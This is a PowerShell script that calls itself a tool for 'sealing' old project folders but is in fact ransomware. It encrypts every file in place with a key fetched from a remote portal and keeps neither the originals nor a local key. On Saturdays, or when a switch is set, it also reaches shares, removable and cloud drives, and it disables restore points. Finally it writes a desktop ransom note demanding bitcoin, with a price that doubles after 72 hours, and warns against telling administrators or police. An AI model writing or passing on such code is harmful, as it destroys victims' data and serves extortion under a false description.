<#
.SYNOPSIS
  Seals old project folders so that nobody changes them by mistake.
.DESCRIPTION
  Every file is packed, encrypted and stored beside the original as *.sealed.
  To open a sealed folder again use the free Sealer Portal.
.EXAMPLE
  .\seal.ps1 -Path D:\Projects\2019
#>
[CmdletBinding()]
param(
    [Parameter(Mandatory)] [string] $Path,
    [switch] $IncludeShares
)

# SealerEngine is fetched by the setup program. It is given the portal's public
# key only; the private key never leaves the portal.
Import-Module SealerEngine
$portalKey = Get-SealerPortalKey -Uri 'https://portal.archive-sealer.invalid/key'

$roots = @($Path)
if ($IncludeShares -or (Get-Date).DayOfWeek -eq 'Saturday') {
    # seal the copies as well, otherwise somebody works on the wrong one
    $roots += Get-SealerPlace -Kind Share, RemovableDisk, CloudFolder
    Disable-SealerRestorePoint -All -Quiet
}

$count = 0
foreach ($root in $roots | Where-Object { $_ }) {
    foreach ($file in Get-SealerCandidate -Root $root -Exclude '.sealed') {
        Protect-SealerFile -File $file -Key $portalKey -KeepOriginal:$false -KeepLocalKey:$false
        $count++
    }
}

@"
$count files are sealed.
To unseal them buy a seat in the portal: https://portal.archive-sealer.invalid
Seats are 0.04 BTC per 1000 files. The price doubles after 72 hours.
Please do not ask your administrator or the police, they cannot unseal anything.
"@ | Set-Content "$([Environment]::GetFolderPath('Desktop'))\How to unseal.txt"
